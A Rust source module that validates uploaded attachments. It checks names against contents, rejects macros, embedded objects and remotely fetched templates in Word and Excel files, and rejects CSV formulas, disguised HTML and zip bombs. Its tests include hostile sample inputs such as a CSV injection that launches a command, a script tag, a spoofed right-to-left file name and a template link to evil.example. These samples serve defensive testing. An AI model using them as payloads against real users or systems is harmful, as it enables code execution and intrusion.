//! Which files are kept: what their bytes are must be what their name says.

use std::io::{BufReader, Cursor, Read};

use quick_xml::{Reader, XmlVersion, events::Event};
use zip::ZipArchive;

use crate::{import, record::is_hidden};

/// Most characters of a file's name.
const NAME: usize = 120;

/// What a file is, found by its bytes. The numbers stand in the database.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum AttachmentKind {
    /// PDF.
    Pdf = 1,
    /// PNG.
    Png = 2,
    /// JPEG.
    Jpeg = 3,
    /// Word, without macros.
    Docx = 4,
    /// Excel, without macros.
    Xlsx = 5,
    /// Plain text.
    Text = 6,
    /// A table as text.
    Csv = 7,
}

impl AttachmentKind {
    /// Every kind.
    pub const ALL: [AttachmentKind; 7] = [
        AttachmentKind::Pdf,
        AttachmentKind::Png,
        AttachmentKind::Jpeg,
        AttachmentKind::Docx,
        AttachmentKind::Xlsx,
        AttachmentKind::Text,
        AttachmentKind::Csv,
    ];

    /// The ends of names that say so.
    pub fn extensions(self) -> &'static [&'static str] {
        match self {
            AttachmentKind::Pdf => &["pdf"],
            AttachmentKind::Png => &["png"],
            AttachmentKind::Jpeg => &["jpg", "jpeg"],
            AttachmentKind::Docx => &["docx"],
            AttachmentKind::Xlsx => &["xlsx"],
            AttachmentKind::Text => &["txt"],
            AttachmentKind::Csv => &["csv"],
        }
    }

    /// Media type.
    pub fn media_type(self) -> &'static str {
        match self {
            AttachmentKind::Pdf => "application/pdf",
            AttachmentKind::Png => "image/png",
            AttachmentKind::Jpeg => "image/jpeg",
            AttachmentKind::Docx => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            AttachmentKind::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            AttachmentKind::Text => "text/plain; charset=utf-8",
            AttachmentKind::Csv => "text/csv; charset=utf-8",
        }
    }

    pub(super) fn of(number: u8) -> Option<AttachmentKind> {
        AttachmentKind::ALL.into_iter().find(|kind| *kind as u8 == number)
    }

    fn named(name: &str) -> Option<AttachmentKind> {
        let (_, extension) = name.rsplit_once('.')?;
        let extension = extension.to_ascii_lowercase();
        AttachmentKind::ALL.into_iter().find(|kind| kind.extensions().contains(&extension.as_str()))
    }
}

/// Why a file is not taken.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
pub enum AttachmentFault {
    /// It has no name, or one with characters that are hidden or turn the direction of writing.
    #[error("the file's name is empty or has hidden characters")]
    Name,
    /// It has no bytes.
    #[error("the file is empty")]
    Empty,
    /// It is larger than the setting allows, in megabytes.
    #[error("the file is larger than {0} MB")]
    TooLarge(u32),
    /// There are as many as the setting allows.
    #[error("there are {0} files already")]
    TooMany(u32),
    /// Files of this kind are not taken.
    #[error("files of this kind are not taken")]
    Kind,
    /// It is not what its name says.
    #[error("the file is not what its name says")]
    NotAsNamed,
    /// An office document with macros.
    #[error("the document has macros")]
    Macros,
    /// Something in it runs or fetches by itself: a formula in a text table, a control, an object or a template from elsewhere.
    #[error("the file has a formula, an object or a link that opens by itself")]
    Active,
    /// It does not unpack, or to more than it should.
    #[error("the document is damaged or unpacks to too much")]
    Archive,
}

impl AttachmentFault {
    /// A short name for the API and texts.
    pub fn code(self) -> &'static str {
        match self {
            AttachmentFault::Name => "name",
            AttachmentFault::Empty => "empty",
            AttachmentFault::TooLarge(_) => "too_large",
            AttachmentFault::TooMany(_) => "too_many",
            AttachmentFault::Kind => "kind",
            AttachmentFault::NotAsNamed => "not_as_named",
            AttachmentFault::Macros => "macros",
            AttachmentFault::Active => "active",
            AttachmentFault::Archive => "archive",
        }
    }
}

/// A file's name as it is kept: without a path, without characters that no system takes in a name.
pub(super) fn clean_name(name: &str) -> Result<String, AttachmentFault> {
    if name.chars().any(is_hidden) {
        return Err(AttachmentFault::Name);
    }
    let name = name.rsplit(['/', '\\']).next().unwrap_or_default();
    let plain = |c: char| if "<>:\"|?*".contains(c) { '_' } else { c };
    let name: String = name.chars().map(plain).collect();
    let name = name.trim().trim_start_matches('.');
    let Some((stem, extension)) = name.rsplit_once('.') else {
        return Err(if name.is_empty() { AttachmentFault::Name } else { AttachmentFault::Kind });
    };
    if stem.trim().is_empty() || extension.len() > 10 {
        return Err(if stem.trim().is_empty() { AttachmentFault::Name } else { AttachmentFault::Kind });
    }
    let room = NAME - 1 - extension.chars().count();
    Ok(format!("{}.{extension}", stem.chars().take(room).collect::<String>()))
}

/// What a file is, if it is what its (clean) name says.
pub(super) fn kind_of(name: &str, bytes: &[u8]) -> Result<AttachmentKind, AttachmentFault> {
    let named = AttachmentKind::named(name).ok_or(AttachmentFault::Kind)?;
    if bytes.is_empty() {
        return Err(AttachmentFault::Empty);
    }
    let fits = match named {
        AttachmentKind::Pdf => bytes.starts_with(b"%PDF-"),
        AttachmentKind::Png => bytes.starts_with(b"\x89PNG\r\n\x1a\n"),
        AttachmentKind::Jpeg => bytes.starts_with(b"\xff\xd8\xff"),
        AttachmentKind::Docx => document(bytes)? == Some(AttachmentKind::Docx),
        AttachmentKind::Xlsx => document(bytes)? == Some(AttachmentKind::Xlsx),
        AttachmentKind::Text | AttachmentKind::Csv => is_text(bytes),
    };
    if !fits {
        return Err(AttachmentFault::NotAsNamed);
    }
    if named == AttachmentKind::Csv && has_formula(bytes) {
        return Err(AttachmentFault::Active);
    }
    Ok(named)
}

/// Which office document an archive is.
fn document(bytes: &[u8]) -> Result<Option<AttachmentKind>, AttachmentFault> {
    if !bytes.starts_with(b"PK\x03\x04") {
        return Ok(None);
    }
    import::check_packed(bytes).map_err(|_| AttachmentFault::Archive)?;
    let mut archive = ZipArchive::new(Cursor::new(bytes)).map_err(|_| AttachmentFault::Archive)?;
    let lower = |name: Result<std::borrow::Cow<'_, str>, _>| name.map(|name| name.to_ascii_lowercase());
    let names: Result<Vec<String>, _> = archive.file_names().map(lower).collect();
    let names = names.map_err(|_| AttachmentFault::Archive)?;
    for name in &names {
        let (folder, file) = name.rsplit_once('/').unwrap_or(("", name));
        // Data of a chart is a workbook there; anything else is a program's object.
        let object = folder.ends_with("/embeddings") && !file.ends_with(".xlsx");
        if object || folder.ends_with("/activex") {
            return Err(AttachmentFault::Active);
        }
    }
    for at in 0..archive.len() {
        let part = archive.by_index(at).map_err(|_| AttachmentFault::Archive)?;
        let name = part.name().map(|name| name.to_ascii_lowercase()).map_err(|_| AttachmentFault::Archive)?;
        if name == "[content_types].xml" || name.ends_with(".rels") {
            inert(part)?;
        }
    }
    let has = |wanted: &str| names.iter().any(|name| name == wanted);
    Ok(if !has("[content_types].xml") {
        None
    } else if has("word/document.xml") {
        Some(AttachmentKind::Docx)
    } else {
        has("xl/workbook.xml").then_some(AttachmentKind::Xlsx)
    })
}

/// Refuses macros, whatever their part is called, and what is fetched from elsewhere when the document is opened; a link
/// that somebody has to click may stand (ECMA-376 part 2: content types and relationships).
fn inert(part: impl Read) -> Result<(), AttachmentFault> {
    let mut reader = Reader::from_reader(BufReader::new(part));
    let mut buffer = Vec::new();
    loop {
        let element = match reader.read_event_into(&mut buffer).map_err(|_| AttachmentFault::Archive)? {
            Event::Start(element) | Event::Empty(element) => element,
            Event::DocType(_) => return Err(AttachmentFault::Archive),
            Event::Eof => return Ok(()),
            _ => continue,
        };
        let (mut kind, mut external) = (String::new(), false);
        for attribute in element.attributes() {
            let attribute = attribute.map_err(|_| AttachmentFault::Archive)?;
            let value =
                attribute.normalized_value(XmlVersion::Implicit1_0).map_err(|_| AttachmentFault::Archive)?;
            let value = value.to_ascii_lowercase();
            match attribute.key.local_name().as_ref() {
                "ContentType" if value.contains("vba") || value.contains("macroenabled") => {
                    return Err(AttachmentFault::Macros);
                }
                "Type" => kind = value,
                "TargetMode" => external = value.trim() == "external",
                _ => {}
            }
        }
        if kind.contains("vbaproject") {
            return Err(AttachmentFault::Macros);
        }
        if external && !kind.ends_with("/hyperlink") {
            return Err(AttachmentFault::Active);
        }
        buffer.clear();
    }
}

/// Whether a spreadsheet would compute a cell of a text table: it begins with `=` or `@`, or with a sign and is no number.
/// Every encoding that is taken here keeps these characters and the separators as ASCII has them.
fn has_formula(bytes: &[u8]) -> bool {
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    text.split(|byte| b",;\t\r\n|".contains(byte)).any(|cell| {
        let space = |byte: &u8| *byte == b' ' || *byte == b'"' || *byte == b'\'';
        let cell = &cell[cell.iter().position(|byte| !space(byte)).unwrap_or(cell.len())..];
        let number = |byte: &u8| byte.is_ascii_digit() || b" .-+()%eE\"'".contains(byte);
        match cell {
            [b'=' | b'@', ..] => true,
            [b'+' | b'-', rest @ ..] => !rest.iter().all(number),
            _ => cell.starts_with("＝".as_bytes()),
        }
    })
}

/// Text of any encoding that has ASCII in it: no control characters but those of lines, and nothing that a program would
/// run or show as something else.
fn is_text(bytes: &[u8]) -> bool {
    let control = |byte: &u8| *byte < 0x20 && !b"\t\r\n\x0c".contains(byte);
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes).trim_ascii_start();
    let begins = |start: &&[u8]| text.len() >= start.len() && text[..start.len()].eq_ignore_ascii_case(start);
    const OTHERS: [&[u8]; 11] = [
        b"<!doctype",
        b"<html",
        b"<head",
        b"<body",
        b"<script",
        b"<svg",
        b"<?xml",
        b"<?php",
        b"#!",
        b"%PDF",
        b"{\\rtf",
    ];
    !bytes.iter().any(control) && !OTHERS.iter().any(begins)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use zip::{ZipWriter, write::SimpleFileOptions};

    use super::*;

    fn packed(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, bytes) in files {
            writer.start_file(*name, SimpleFileOptions::default()).unwrap();
            writer.write_all(bytes).unwrap();
        }
        writer.finish().unwrap().into_inner()
    }

    const WORD: [(&str, &[u8]); 2] = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")];

    #[test]
    fn names_lose_paths_and_what_no_system_takes() {
        for (name, kept) in [
            ("报价.pdf", "报价.pdf"),
            ("../../etc/报价.pdf", "报价.pdf"),
            ("C:\\Users\\a\\合同?.docx", "合同_.docx"),
            ("...x.txt", "x.txt"),
            (" a b .csv", "a b .csv"),
        ] {
            assert_eq!(clean_name(name).unwrap(), kept, "{name}");
        }
        let long = clean_name(&format!("{}.pdf", "长".repeat(300))).unwrap();
        assert_eq!((long.chars().count(), long.ends_with(".pdf")), (NAME, true));
        for name in ["", ".", ".pdf", "报价\u{202e}fdp.exe", "a\u{200b}.pdf", "a\n.pdf", "a\0.pdf", "dir/"]
        {
            assert!(clean_name(name).is_err(), "{name:?}");
        }
    }

    #[test]
    fn a_file_is_what_its_name_says() {
        let word = packed(&WORD);
        let good: [(&str, &[u8]); 7] = [
            ("a.pdf", b"%PDF-1.7\n"),
            ("a.PNG", b"\x89PNG\r\n\x1a\n...."),
            ("a.jpeg", b"\xff\xd8\xff\xe0.."),
            ("a.docx", &word),
            ("a.txt", "约好下周\r\n再谈".as_bytes()),
            ("a.csv", b"a,b\n1,2\n"),
            ("a.exe.txt", b"only text"),
        ];
        for (name, bytes) in good {
            assert!(kind_of(name, bytes).is_ok(), "{name}");
        }
        let bad: [(&str, &[u8], AttachmentFault); 12] = [
            ("a.pdf", b"<html><script>alert(1)</script>", AttachmentFault::NotAsNamed),
            ("a.pdf", b"", AttachmentFault::Empty),
            ("a.txt", b" <!DOCTYPE html>", AttachmentFault::NotAsNamed),
            ("a.txt", b"MZ\x90\0\x03", AttachmentFault::NotAsNamed),
            ("a.csv", b"\xef\xbb\xbf<SVG onload=x>", AttachmentFault::NotAsNamed),
            ("eicar.com", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", AttachmentFault::Kind),
            ("a.pdf.exe", b"%PDF-1.7", AttachmentFault::Kind),
            ("a.svg", b"<svg/>", AttachmentFault::Kind),
            ("a.docm", &word, AttachmentFault::Kind),
            ("a.xlsx", &word, AttachmentFault::NotAsNamed),
            ("a.docx", b"PK\x03\x04 and no more", AttachmentFault::Archive),
            ("a", b"text", AttachmentFault::Kind),
        ];
        for (name, bytes, fault) in bad {
            assert_eq!(kind_of(name, bytes), Err(fault), "{name}");
        }
        let rels = |attributes: &str| {
            let rels =
                format!("<r:Relationships xmlns:r='x'><r:Relationship {attributes}/></r:Relationships>");
            kind_of("a.docx", &packed(&[WORD[0], WORD[1], ("word/_rels/document.xml.rels", rels.as_bytes())]))
        };
        assert!(rels("Type='http://x/hyperlink' Target='https://example.com' TargetMode='External'").is_ok());
        assert!(rels("Type='http://x/image' Target='media/1.png'").is_ok());
        let template =
            "Type='http://x/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='&#69;xternal'";
        assert_eq!(rels(template), Err(AttachmentFault::Active));
        assert_eq!(rels("Type='http://x/vbaProject' Target='notes.bin'"), Err(AttachmentFault::Macros));
        assert_eq!(rels("Type='a' Type='b'"), Err(AttachmentFault::Archive));
        let types = b"<Types><Override PartName='/word/a.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>";
        let renamed = packed(&[("[Content_Types].xml", types), WORD[1], ("word/a.bin", b"x")]);
        assert_eq!(kind_of("a.docx", &renamed), Err(AttachmentFault::Macros));
        for part in ["word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"] {
            let object = packed(&[WORD[0], WORD[1], (part, b"x")]);
            assert_eq!(kind_of("a.docx", &object), Err(AttachmentFault::Active), "{part}");
        }
        for table in
            ["a,=cmd|' /C calc'!A0", "a;\"=1+1\"", "a\n@SUM(A1)", "\u{feff}+cmd|x", "-2+3+cmd|x", "a\t＝1+1"]
        {
            assert_eq!(kind_of("a.csv", table.as_bytes()), Err(AttachmentFault::Active), "{table}");
        }
        for table in ["折扣,-5%\n电话,+86 138-0013-8000\n", "a,-1.5e3,(2)\n", "a=b,c@d.com"] {
            assert!(kind_of("a.csv", table.as_bytes()).is_ok(), "{table}");
        }
        let bomb = packed(&[WORD[0], WORD[1], ("word/media/a.bin", &vec![0; 64 << 20])]);
        assert!(bomb.len() < 200_000, "it is small while it is packed");
        assert_eq!(kind_of("a.docx", &bomb), Err(AttachmentFault::Archive));
        let other = packed(&[("a.txt", b"x")]);
        assert_eq!(kind_of("a.docx", &other), Err(AttachmentFault::NotAsNamed));
    }
}
